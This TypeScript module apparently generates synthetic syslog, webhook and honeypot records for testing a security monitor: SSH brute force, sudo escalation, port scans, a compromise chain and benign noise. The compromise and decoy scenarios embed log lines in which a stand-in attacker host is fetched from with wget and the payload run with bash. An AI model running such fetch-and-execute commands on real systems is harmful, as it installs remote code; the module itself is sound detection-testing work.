/** The five documented attacks, one that ends in a decoy, and the everyday noise around them. Addresses are from the documentation ranges (RFC 5737). */

export type Way = 'file' | 'udp' | 'tcp' | 'webhook' | 'decoy';

/** One record of a scenario: what is sent, by which way. `text` is a line; for a webhook it is JSON, for a decoy what it would report of a visit. */
export interface Step {
  way: Way;
  text: string;
}

export interface Scenario {
  title: string;
  /** What the viewer should see. */
  expect: string;
  steps: readonly Step[];
}

const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'] as const;
const two = (n: number): string => String(n).padStart(2, '0');

/** RFC 3164 time in the host's zone, as a local daemon would write it. */
function stamp(at: Date): string {
  const day = String(at.getDate()).padStart(2, ' ');
  return `${months[at.getMonth()]} ${day} ${two(at.getHours())}:${two(at.getMinutes())}:${two(at.getSeconds())}`;
}

const file = (at: Date, host: string, text: string): Step => ({ way: 'file', text: `${stamp(at)} ${host} ${text}` });

const syslog = (way: 'udp' | 'tcp', priority: number, at: Date, host: string, text: string): Step => ({
  way,
  text: `<${priority}>${stamp(at)} ${host} ${text}`,
});

/** An address that differs from round to round, so that each round is a new attacker and not the growth of an old alert. */
const attacker = (net: string, first: number, round: number): string => `${net}.${1 + ((first - 1 + round) % 254)}`;

/** The scenarios of one round. `round` counts from 0. */
export function scenariosOf(round: number, at: Date): readonly Scenario[] {
  return [
    bruteForce(at, attacker('203.0.113', 42, round)),
    escalation(at, attacker('198.51.100', 77, round)),
    systemErrors(at),
    portScan(at, attacker('203.0.113', 99, round)),
    compromise(at, attacker('192.0.2', 66, round)),
    intruder(at, attacker('203.0.113', 150, round)),
  ];
}

function bruteForce(at: Date, ip: string): Scenario {
  return {
    title: `SSH brute force: six failed logins for admin from ${ip}`,
    expect: 'a critical alert that names the address and counts the failures',
    steps: Array.from({ length: 6 }, (_, i) =>
      file(at, 'web01', `sshd[${4100 + i}]: Failed password for admin from ${ip} port ${50_100 + i} ssh2`),
    ),
  };
}

function escalation(at: Date, ip: string): Scenario {
  return {
    title: 'Privilege escalation: a failed login, then a root shell by sudo',
    expect: 'a correlation alert over both events',
    steps: [
      file(at, 'db01', `sshd[5210]: Failed password for deploy from ${ip} port 41022 ssh2`),
      file(at, 'db01', `sshd[5210]: Accepted password for deploy from ${ip} port 41022 ssh2`),
      file(at, 'db01', 'sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash'),
      file(at, 'db01', 'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)'),
    ],
  };
}

function systemErrors(at: Date): Scenario {
  const backup = {
    event_type: 'backup_failed',
    severity: 'critical',
    message: 'Nightly backup FAILED: no space left on device',
  };
  return {
    title: 'System errors: out of memory, a database that does not start, a failed backup',
    expect: 'events of raised severity',
    steps: [
      file(
        at,
        'db01',
        'kernel: [81234.567890] Out of memory: Killed process 2311 (postgres) total-vm:2145312kB, anon-rss:1893216kB',
      ),
      file(at, 'db01', "systemd[1]: postgresql.service: Failed with result 'exit-code'."),
      file(at, 'db01', 'systemd[1]: Failed to start postgresql.service - PostgreSQL RDBMS.'),
      { way: 'webhook', text: JSON.stringify({ ...backup, host: 'backup01' }) },
    ],
  };
}

function portScan(at: Date, ip: string): Scenario {
  const ports = [22, 80, 443, 3306, 5432, 27_017, 6379];
  return {
    title: `Port scan: ${ip} knocks on ${ports.length} ports of the firewall`,
    expect: 'a port-scan alert with the ports that were tried',
    steps: ports.map((port, i) =>
      syslog(
        'udp',
        4,
        at,
        'fw01',
        `kernel: [UFW BLOCK] IN=eth0 OUT= MAC=02:00:00:00:00:01:02:00:00:00:00:02:08:00 SRC=${ip} DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=51 ID=${30_000 + i} PROTO=TCP SPT=${44_000 + i} DPT=${port} WINDOW=1024 RES=0x00 SYN URGP=0`,
      ),
    ),
  };
}

function compromise(at: Date, ip: string): Scenario {
  const line = (text: string): Step => syslog('tcp', 38, at, 'app01', text);
  const failures = [0, 1, 2].map((i) =>
    line(`sshd[${6300 + i}]: Failed password for root from ${ip} port ${52_000 + i} ssh2`),
  );
  return {
    title: `Full compromise: ${ip} guesses root's password, gets in and fetches a tool`,
    expect: 'a success-after-failures alert, and the chain in its events',
    steps: [
      ...failures,
      line(`sshd[6304]: Accepted password for root from ${ip} port 52004 ssh2`),
      line(
        'sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget http://files.attacker.example/payload.sh',
      ),
      line('sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/bash payload.sh'),
    ],
  };
}

/** From the first knock to the decision: everything that one address does is one incident. */
function intruder(at: Date, ip: string): Scenario {
  const ports = [21, 22, 23, 80, 443, 445, 1433, 2222, 3306, 3389, 5432, 8080];
  const before = (seconds: number): Date => new Date(at.getTime() - seconds * 1000);
  const visit = (event_type: string, message: string, more: object = {}): Step => ({
    way: 'decoy',
    text: JSON.stringify({
      decoy: 'ssh',
      event_type,
      time: at.getTime(),
      message,
      src_ip: ip,
      src_port: 51_022,
      dst_ip: '192.0.2.10',
      dst_port: 2222,
      ...more,
    }),
  });
  return {
    title: `An intruder: ${ip} scans, guesses passwords, and walks into the SSH decoy`,
    expect: 'one incident with all of it, and a decision to block the address (dry-run: nothing is blocked)',
    steps: [
      ...ports.map((port, i) =>
        file(
          before(60 - i),
          'fw01',
          `kernel: [UFW BLOCK] IN=eth0 OUT= MAC=02:00:00:00:00:01:02:00:00:00:00:02:08:00 SRC=${ip} DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=51 ID=${31_000 + i} PROTO=TCP SPT=${45_000 + i} DPT=${port} WINDOW=1024 RES=0x00 SYN URGP=0`,
        ),
      ),
      ...Array.from({ length: 8 }, (_, i) =>
        file(before(30 - i), 'web01', `sshd[${4300 + i}]: Failed password for root from ${ip} port ${50_300 + i} ssh2`),
      ),
      visit('decoy.connection', `${ip} connected to the ssh decoy`),
      visit('decoy.login', `${ip} tried to log in to the ssh decoy as root`, {
        user: 'root',
        outcome: 'success',
        fields: { method: 'password' },
      }),
      visit('decoy.command', `${ip} ran a command in the ssh decoy: uname -a`, {
        user: 'root',
        fields: { command: 'uname -a', found: true, exit_status: 0 },
      }),
      visit('decoy.download', `${ip} asked the ssh decoy to fetch http://files.attacker.example/x.sh`, {
        user: 'root',
        fields: { url: 'http://files.attacker.example/x.sh', command: 'wget http://files.attacker.example/x.sh' },
      }),
    ],
  };
}

/** One everyday record that must raise nothing. `n` counts up. */
export function noise(n: number, at: Date): Step {
  const paths = ['/', '/products', '/products/17', '/cart', '/assets/app.css', '/about'];
  const client = `192.0.2.${100 + (n % 40)}`;
  const kinds: readonly (() => Step)[] = [
    () =>
      syslog(
        'udp',
        190,
        at,
        'web01',
        `nginx: ${client} - - [${clf(at)}] "GET ${paths[n % paths.length]} HTTP/1.1" 200 ${900 + (n % 700)} "-" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"`,
      ),
    () => file(at, 'web01', 'CRON[7110]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)'),
    () => ({
      way: 'webhook',
      text: JSON.stringify({
        message: `Order ${10_000 + n} paid`,
        event_type: 'order_paid',
        severity: 'info',
        amount: 20 + (n % 80),
      }),
    }),
    () =>
      syslog(
        'tcp',
        38,
        at,
        'app01',
        `sshd[${7200 + (n % 90)}]: Accepted publickey for alice from 192.0.2.20 port ${40_000 + (n % 9000)} ssh2: ED25519 SHA256:Zm9yIHRoZSBkZW1vIG9ubHkgLSBub3QgYSByZWFsIGtleQ`,
      ),
    () => file(at, 'db01', `postgres[880]: [${n}-1] LOG:  checkpoint complete: wrote ${40 + (n % 60)} buffers (0.3%)`),
  ];
  return (kinds[n % kinds.length] as () => Step)();
}

/** The time of an access log (Common Log Format), in UTC. */
function clf(at: Date): string {
  const date = `${two(at.getUTCDate())}/${months[at.getUTCMonth()]}/${at.getUTCFullYear()}`;
  return `${date}:${two(at.getUTCHours())}:${two(at.getUTCMinutes())}:${two(at.getUTCSeconds())} +0000`;
}
